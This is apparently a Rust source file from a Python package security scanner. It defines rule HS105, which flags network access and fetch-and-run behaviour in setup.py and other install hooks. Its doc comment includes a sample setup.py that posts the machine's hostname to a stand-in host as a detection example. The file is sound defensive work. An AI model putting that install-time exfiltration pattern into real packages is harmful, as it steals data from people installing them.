//! # HS105 setup-install-hook
//!
//! ## What it does
//!
//! Flags network access in `setup.py`, which runs on `pip install` of a source
//! distribution: HTTP requests, sockets, DNS look-ups, downloads. Network
//! access together with a process spawn or `exec` of data in the same
//! function (or both at top level) of `setup.py` is critical. Code in
//! `cmdclass` overrides (`class PostInstall(install): def run(self): ...`)
//! counts as install-time code, and so do the other files a build runs: an
//! in-tree build backend (`backend-path` in `pyproject.toml`), the module of
//! a command class named in `pyproject.toml` or `setup.cfg`, and the top
//! level of local modules that `setup.py` imports.
//!
//! ## Why it matters
//!
//! About three in four malicious PyPI packages reach their victims through a
//! source install (Guo et al., ASE 2023): `setup.py` runs with the user's
//! rights before anyone has imported anything. Lolip0p's `setup.py` fetched an
//! executable with PowerShell, the March 2024 campaign decrypted and fetched
//! its stage from `setup.py`, and dependency-confusion probes post the host
//! name and user from it. A build script has no reason to talk to the
//! network on its own.
//!
//! ## Example
//!
//! ```python
//! from setuptools import setup
//! import requests, socket
//! requests.post("https://example.invalid/c", data={"h": socket.gethostname()})
//! setup(name="pkg")
//! ```
//!
//! ## False positives
//!
//! Native-extension builds that download a toolchain or headers (CUDA,
//! vendored C libraries). A lone `subprocess` call (`git describe`, a compiler)
//! and `exec(open('version.py').read())` are not flagged.
//!
//! ## References
//!
//! - THREATS.md H5; GuardDog `threat-setup-network-in-install`
//! - Guo et al., "An Empirical Study of Malicious Code in PyPI Ecosystem", ASE 2023

use crate::python::Syntax;
use crate::python::{FileRole, Module, Taint, names, taint::taint};
use crate::report::{Context, Severity};
use crate::rules::{Checker, Meta, Rule};

pub struct SetupInstallHook;

static META: Meta = crate::rule_meta!("HS105", "setup-install-hook", Critical, High);

impl Rule for SetupInstallHook {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, m: &Module<'_>, checker: &mut Checker<'_>) {
        if !matches!(
            m.role,
            FileRole::Setup
                | FileRole::InstallHook
                | FileRole::SetupImport
                | FileRole::InstallScript
        ) {
            return;
        }
        let file = if m.role == FileRole::Setup {
            "setup.py"
        } else {
            "a build hook"
        };
        let mut network = Vec::new();
        let mut run_units = Vec::new();
        for call in &m.calls {
            let Some(q) = call.qname.as_deref() else {
                continue;
            };
            if m.context(call.scope) != Context::Install {
                continue;
            }
            if names::is_network(q) {
                network.push((call, q));
            } else if names::is_spawn(q) {
                run_units.push(m.unit(call.scope));
            } else if names::is_code_exec(q) {
                // exec(open('version.py').read()) is the classic version read.
                let data = call
                    .arg(0)
                    .map(|a| taint(m, a, call.scope))
                    .unwrap_or_default();
                let literal = call.arg(0).is_some_and(|a| a.kind_name() == "string");
                let reads_a_local_file = data.has(Taint::FileRead) && data.sources.len() == 1;
                if !(literal || reads_a_local_file) {
                    run_units.push(m.unit(call.scope));
                }
            }
        }
        for (call, q) in network {
            // A fetch and a run in the same function (or both at top level)
            // are one behaviour; a download helper beside an unrelated
            // `nvcc -V` is not.
            let (severity, what) = if run_units.contains(&m.unit(call.scope)) {
                (Severity::Critical, "and runs code or commands")
            } else {
                (Severity::High, "")
            };
            let shown = q.trim_end_matches("()");
            checker.report(
                &META,
                call.node,
                severity,
                Context::Install,
                format!("{file} reaches the network at install time ({shown}) {what}")
                    .trim_end()
                    .to_string(),
            );
        }
    }
}
